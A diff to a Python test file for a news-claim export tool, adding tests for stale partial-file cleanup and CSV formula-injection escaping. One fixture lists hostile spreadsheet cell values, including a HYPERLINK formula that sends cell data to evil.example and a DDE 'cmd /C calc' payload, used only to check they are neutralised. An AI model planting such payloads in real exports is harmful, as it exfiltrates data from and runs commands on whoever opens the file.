@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
+import os
 import signal
 import subprocess
 import sys
@@ -199,3 +201,75 @@ def test_cli_export_and_missing_store(db, tmp_path):
     assert missing.exit_code == 2
     assert "no such store" in missing.output
     assert not (tmp_path / "none.db").exists()
+
+
+def test_killed_exports_leave_no_part_file_after_the_next_export(big_db, tmp_path):
+    out = tmp_path / "claims.jsonl"
+    command = [sys.executable, "-m", "extractor", "export", "--db", str(big_db)]
+    command += ["--table", "claims", "-o", str(out)]
+    for _ in range(2):
+        process = subprocess.Popen(command, stderr=subprocess.PIPE)
+        deadline = time.monotonic() + 30
+        while not list(tmp_path.glob(f".claims.jsonl.{process.pid}.*.part")):
+            assert time.monotonic() < deadline and process.poll() is None
+            time.sleep(0.01)
+        process.send_signal(signal.SIGKILL)
+        process.wait()
+    # the second export removed the first one's leftover when it started
+    assert [p.name.split(".")[3] for p in tmp_path.glob(".*.part")] == [str(process.pid)]
+    done = subprocess.run(command, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["claims.jsonl"]
+
+
+def test_a_part_file_of_a_running_export_is_left_alone(tmp_path):
+    out = tmp_path / "claims.csv"
+    running = tmp_path / f".claims.csv.{os.getpid()}.x1y2.part"
+    gone = tmp_path / ".claims.csv.999999999.a1b2.part"
+    other = tmp_path / ".articles.csv.999999999.c3d4.part"
+    for path in (running, gone, other):
+        path.write_text("partial")
+    assert export_module.remove_stale_parts(out) == [gone]
+    assert running.exists() and other.exists()
+
+
+WEB_CELLS = [
+    # publisher names, titles and quotes come from the web
+    ('=HYPERLINK("http://evil.example/?"&A1,"CoinDesk")', "'=HYPERLINK"),
+    ("+1-555-0100 Crypto Desk", "'+1-555-0100"),
+    ("-$2.1 billion", "'-$2.1 billion"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
+    ("\t=1+1", "'\t=1+1"),
+    ("Coin Ledger = the best", "Coin Ledger = the best"),
+]
+
+
+@pytest.mark.parametrize(("publisher", "cell"), WEB_CELLS)
+def test_csv_cells_from_the_web_never_start_a_formula(tmp_path, publisher, cell):
+    story = Story("f1", publisher).say("Spot bitcoin ETFs had net outflows of $434 million.")
+    claim = story.claim("$434 million", 434e6, metric="etf_flow", side="outflow", asset="BTC")
+    with Store(tmp_path / "news.db") as store:
+        store.save_article(story.article(), [claim])
+        export(store, "claims", "csv", tmp_path / "claims.csv")
+        export(store, "articles", "csv", tmp_path / "articles.csv")
+    for name in ("claims.csv", "articles.csv"):
+        with (tmp_path / name).open(newline="", encoding="utf-8") as handle:
+            row = next(csv.DictReader(handle))
+        assert row["publisher"].startswith(cell)
+        assert row["publisher"][1:] == publisher or row["publisher"] == publisher
+    with (tmp_path / "claims.csv").open(newline="", encoding="utf-8") as handle:
+        assert next(csv.DictReader(handle))["value"] == "434000000.0"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
+def test_export_to_stdout(db, fmt):
+    result = CliRunner().invoke(
+        main, ["export", "--db", str(db), "--table", "articles", "--format", fmt, "-o", "-"]
+    )
+    assert result.exit_code == 0, result.output
+    if fmt == "csv":
+        rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    else:
+        rows = [json.loads(line) for line in result.stdout.splitlines()]
+    assert len(rows) == 6 and all(row["text"] for row in rows)
+    assert "6 articles written to stdout" in result.stderr
